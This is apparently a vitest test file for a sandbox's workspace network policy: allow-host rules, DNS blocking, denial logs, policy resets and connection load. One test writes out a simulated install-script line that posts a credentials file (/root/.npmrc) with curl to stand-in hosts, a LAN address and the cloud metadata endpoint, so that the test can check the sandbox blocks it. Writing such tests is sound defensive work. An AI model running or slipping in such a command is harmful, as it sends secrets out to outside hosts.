import { afterAll, assert, beforeAll, describe, it } from "vitest"
import { type Installation, installation } from "../support/installation.ts"
import { networkHost } from "../support/network/host.ts"
import { startPyro, until } from "../support/pyro-cli.ts"

interface Entry {
  readonly outcome: "allowed" | "denied" | "failed"
  readonly kind: "connection" | "lookup"
  readonly host: string
  readonly port?: number
  readonly address?: string
  readonly reason?: string
  readonly option?: string
  readonly bytes_in: number
  readonly bytes_out: number
}

interface Log {
  readonly entries: ReadonlyArray<Entry>
  readonly open: ReadonlyArray<{ readonly host: string; readonly port: number }>
}

let host: Awaited<ReturnType<typeof networkHost>>
let pyro: Installation
beforeAll(async () => {
  host = await networkHost()
  pyro = installation("pyro-network-", { enter: host.enter })
})
afterAll(async () => {
  await pyro.close()
  await host.close()
})

const log = (name: string, ...options: ReadonlyArray<string>) =>
  pyro.json<Log>(["workspace", "network", "log", name, "--limit", "1000", ...options])
const openOf = async (name: string) => (await log(name)).open.length

/** Output of a Python program in a workspace. */
const python = (name: string, script: string) => pyro.sh(name, `python3 - <<'END'\nimport socket, time\n${script}\nEND`)

/** Starts a program that makes connections, prints `made`, and then how the first of them ended. */
const holdConnections = async (name: string, count: number, target = `("server.test.net", 7)`) => {
  const script = `import socket
all = [socket.create_connection(${target}) for _ in range(${count})]
for one in all: one.sendall(b"GET\\n\\n")
print("made", flush=True)
try:
  while all[0].recv(9): pass
  print("end", flush=True)
except OSError as error: print(error.strerror, flush=True)`
  const { exec_id: id } = await pyro.json<{ readonly exec_id: string }>(
    ["workspace", "exec", name, "--detach", "--", "python3", "-c", script]
  )
  const printed = async () => (await pyro.json<{ readonly output: string }>(["workspace", "logs", name, id])).output
  await until(`${count} connections of ${name}`, async () => (await printed()).startsWith("made"))
  return { id, printed }
}

const RESET = "made\nConnection reset by peer\n"

describe("the network of a workspace", () => {
  it("a guest reaches an allowed host, and nothing else", async () => {
    await pyro.create(["--name", "a", "--allow-host", "server.test.net"])
    assert.strictEqual(await pyro.sh("a", "curl -sS http://server.test.net/"), "hello server.test.net")
    const refused = await python(
      "a",
      `def attempt(address, kind=socket.SOCK_STREAM, data=None):
  try:
    one = socket.socket(socket.AF_INET, kind)
    one.settimeout(9)
    one.connect(address)
    if data: one.send(data)
    return "made"
  except OSError as error: return error.strerror
def look(name):
  try: return socket.gethostbyname(name)
  except OSError as error: return error.strerror
start = time.time()
print(look("other.test.net"))
for address in ("203.0.113.10", "192.168.7.1", "169.254.169.254", "198.51.100.2", "10.0.0.5"): print(attempt((address, 80)))
print(attempt(("203.0.113.10", 123), socket.SOCK_DGRAM, b"x"))
print("at once" if time.time() - start < 5 else "late")`
    )
    assert.deepStrictEqual(refused.split("\n"), [
      "Name or service not known",
      ...Array.from({ length: 5 }, () => "Connection refused"),
      "Network is unreachable",
      "at once"
    ])
    assert.match(await pyro.sh("a", "ping -c 1 -W 9 203.0.113.10 2>&1 || true"), /unreachable|not found/)
  })

  it("a guest's own resolver and DNS over HTTPS find no way out", async () => {
    const answered = await python(
      "a",
      `def ask(name):
  one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
  one.settimeout(9)
  question = b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\\0\\0\\1\\0\\1"
  one.sendto(b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + question, ("8.8.8.8", 53))
  return one.recv(512)[3] & 15
print(ask("server.test.net"), ask("other.test.net"))
try: socket.create_connection(("1.1.1.1", 443), 9)
except OSError as error: print(error.strerror)`
    )
    assert.strictEqual(answered, "0 3\nConnection refused")
  })

  it("the log names each connection and each denial with its reason and option", async () => {
    const { entries } = await log("a")
    const found = (wanted: Partial<Entry>) =>
      entries.some((one) => Object.entries(wanted).every(([key, value]) => one[key as keyof Entry] === value))
    assert.isTrue(found({ outcome: "allowed", host: "server.test.net", port: 80, address: "203.0.113.10" }))
    assert.isTrue(
      found({ outcome: "denied", kind: "lookup", host: "other.test.net", option: "--allow-host other.test.net" })
    )
    assert.isTrue(found({ outcome: "denied", host: "192.168.7.1", port: 80, option: "--allow-ip 192.168.7.1:80" }))
    assert.isTrue(found({ outcome: "denied", host: "1.1.1.1", port: 443 }))
    const { entries: denied } = await log("a", "--denied")
    assert.isNotEmpty(denied)
    assert.isTrue(denied.every(({ outcome }) => outcome === "denied"))
  })

  it("a command that met a denial names the host and the option that would allow the host", async () => {
    const { notices = [] } = await pyro.json<{ readonly notices?: ReadonlyArray<string> }>(
      ["workspace", "exec", "a", "--", "sh", "-c", "curl -sS http://other.test.net/ || true"]
    )
    assert.lengthOf(notices, 1)
    assert.match(notices[0]!, /denied other\.test\.net: .*To allow: --allow-host other\.test\.net$/)
    const quiet = await pyro.json<{ readonly notices?: ReadonlyArray<string> }>(
      ["workspace", "exec", "a", "--", "curl", "-sS", "http://server.test.net/"]
    )
    assert.isUndefined(quiet.notices)
  })

  it("a request for another host on an allowed connection is denied", async () => {
    const script = "curl -sS -H 'Host: other.test.net' http://server.test.net/ 2>&1 || true"
    assert.match(await pyro.sh("a", script), /reset|Empty reply/)
    const { entries } = await log("a", "--denied")
    assert.match(entries.at(-1)?.reason ?? "", /HTTP Host is "other\.test\.net"/)
  })

  it("a name of a private address needs a rule for the address", async () => {
    const script = "curl -sS http://lan.test.net/ 2>&1 || true"
    await pyro.json(["workspace", "network", "set", "a", "--allow-host", "lan.test.net"])
    assert.match(await pyro.sh("a", script), /Failed to connect/)
    const { entries } = await log("a", "--denied")
    assert.match(entries.at(-1)?.reason ?? "", /192\.168\.7\.1 is a private address/)
    await pyro.json(
      ["workspace", "network", "set", "a", "--allow-host", "lan.test.net", "--allow-ip", "192.168.7.1:80"]
    )
    assert.strictEqual(await pyro.sh("a", script), "hello lan.test.net")
  })

  it("an install script that calls home and scans the LAN is refused and seen", async () => {
    await pyro.json(["workspace", "network", "set", "a", "--allow-host", "server.test.net"])
    await pyro.sh(
      "a",
      "echo token > /root/.npmrc; for to in other.test.net 192.168.7.1 169.254.169.254; do curl -s -d @/root/.npmrc http://$to/ || true; done"
    )
    const { entries } = await log("a", "--denied")
    const hosts = new Set(entries.slice(-3).map(({ host }) => host))
    assert.deepStrictEqual([...hosts], ["other.test.net", "192.168.7.1", "169.254.169.254"])
    assert.isTrue(entries.every(({ bytes_out: bytes }) => bytes === 0))
  })

  it("network log --follow --denied prints a denial when it happens", async () => {
    const { child, finished, stdoutSoFar } = startPyro(
      ["workspace", "network", "log", "a", "--follow", "--denied"],
      { enter: host.enter, env: pyro.env }
    )
    await until("the denials so far", () => stdoutSoFar().length > 0)
    const before = stdoutSoFar().length
    await pyro.sh("a", "curl -sS http://followed.test.net/ || true")
    await until("the new denial", () => stdoutSoFar().subarray(before).includes("followed.test.net"))
    child.kill("SIGINT")
    await finished
  })
})

describe("a change of the network policy", () => {
  it("a narrower policy resets the connections that it forbids, and no other", async () => {
    await pyro.json(
      ["workspace", "network", "set", "a", "--allow-host", "server.test.net", "--allow-ip", "203.0.113.10"]
    )
    const byName = await holdConnections("a", 3)
    const byAddress = await holdConnections("a", 1, `("203.0.113.10", 7)`)
    const { reset_count: count } = await pyro.json<{ readonly reset_count: number }>(
      ["workspace", "network", "set", "a", "--allow-ip", "203.0.113.10:7"]
    )
    assert.strictEqual(count, 3)
    await until("the reset", async () => await byName.printed() === RESET)
    assert.strictEqual(await byAddress.printed(), "made\n")
    assert.strictEqual(await openOf("a"), 1)
    await pyro.json(["workspace", "network", "set", "a", "--network-policy", "off"])
    await until("the last reset", async () => await byAddress.printed() === RESET)
    const said = await pyro.sh("a", "curl -sS http://203.0.113.10/ 2>&1 || true")
    assert.match(said, /unreachable|Couldn't connect/)
  })

  it("a policy stays through stop and start, and holds in forks", async () => {
    await pyro.json(["workspace", "network", "set", "a", "--allow-host", "server.test.net"])
    await pyro.step("stop", "a")
    await pyro.step("start", "a")
    assert.strictEqual(await pyro.sh("a", "curl -sS http://server.test.net/"), "hello server.test.net")
    await pyro.json(["workspace", "fork", "a", "--name", "b"])
    assert.strictEqual(await pyro.sh("b", "curl -sS http://server.test.net/"), "hello server.test.net")
    assert.match(await pyro.sh("b", "curl -sS http://other.test.net/ 2>&1 || true"), /resolve/)
  })

  it("a reset to a snapshot keeps the current policy", async () => {
    await pyro.json(["workspace", "network", "set", "b", "--network-policy", "egress"])
    await pyro.json(["workspace", "snapshot", "create", "b", "wide"])
    await pyro.json(["workspace", "network", "set", "b", "--allow-host", "server.test.net"])
    await pyro.json(["workspace", "reset", "b", "--snapshot", "wide"])
    assert.match(await pyro.sh("b", "curl -sS http://other.test.net/ 2>&1 || true"), /resolve/)
    assert.strictEqual(await pyro.sh("b", "curl -sS http://server.test.net/"), "hello server.test.net")
  })
})

describe("open connections", () => {
  it("connections go on through a snapshot, and are reset in a fork", async () => {
    const held = await holdConnections("a", 2)
    await pyro.json(["workspace", "snapshot", "create", "a", "open"])
    await pyro.json(["workspace", "fork", "a", "--name", "c"])
    const inFork = async () =>
      (await pyro.json<{ readonly output: string }>(["workspace", "logs", "c", held.id])).output
    await until("the reset in the fork", async () => await inFork() === RESET)
    assert.strictEqual(await held.printed(), "made\n")
    assert.strictEqual(await openOf("a"), 2)
    await pyro.json(["workspace", "reset", "a", "--snapshot", "open"])
    await until("the reset in the past", async () => await held.printed() === RESET)
    assert.strictEqual(await openOf("a"), 0)
    assert.strictEqual(await pyro.sh("a", "curl -sS http://server.test.net/"), "hello server.test.net")
  })

  it("200 connections are reset when the daemon is killed, and the workspace goes on", async () => {
    const held = await holdConnections("a", 200)
    process.kill(await pyro.daemonPid(), "SIGKILL")
    await until("the reset", async () => await held.printed() === RESET)
    assert.strictEqual(await openOf("a"), 0)
    assert.strictEqual(await pyro.sh("a", "curl -sS http://server.test.net/"), "hello server.test.net")
  })

  it("500 connections at once are all served", async () => {
    const said = await python(
      "a",
      `import asyncio
async def one():
  reader, writer = await asyncio.open_connection("server.test.net", 7)
  writer.write(b"GET\\n\\n")
  data = await reader.readexactly(5)
  writer.close()
  return data == b"GET\\n\\n"
async def all(): return await asyncio.gather(*[one() for _ in range(500)])
print(sum(asyncio.run(all())))`
    )
    assert.strictEqual(said, "500")
  })

  it("64 MiB pass in each direction", async () => {
    assert.strictEqual(await pyro.sh("a", "curl -sS http://server.test.net/bytes/64 | wc -c"), String(64 * 1_048_576))
    const sent = await python(
      "a",
      `one = socket.create_connection(("server.test.net", 9))
one.sendall(b"\\0" * (64 << 20))
one.shutdown(socket.SHUT_WR)
print(one.makefile().read().strip())`
    )
    assert.strictEqual(sent, String(64 * 1_048_576))
  })
})

describe("the network of a run", () => {
  it("run grants hosts to one command", async () => {
    const { code, stdout } = await pyro.call(
      ["run", "--mem-mib", "256", "--allow-host", "server.test.net", "--", "curl", "-sS", "http://server.test.net/"]
    )
    assert.deepStrictEqual([code, stdout.toString()], [0, "hello server.test.net\n"])
    const denied = await pyro.call(
      ["run", "--mem-mib", "256", "--allow-host", "server.test.net", "--", "curl", "-sS", "http://other.test.net/"]
    )
    assert.strictEqual(denied.code, 6)
    assert.match(denied.stderr, /denied other\.test\.net.*--allow-host other\.test\.net/)
  })

  it("a rule that cannot be read is refused with its option", async () => {
    const { code, message } = await pyro.failure(["workspace", "create", "--allow-host", "npmx"])
    assert.strictEqual(code, "invalid_request")
    assert.match(message, /--allow-host.*npm, pypi/)
    const off = await pyro.failure(["workspace", "create", "--network-policy", "off", "--allow-host", "npm"])
    assert.match(off.message, /--allow-host.*--network-policy off/)
  })
})
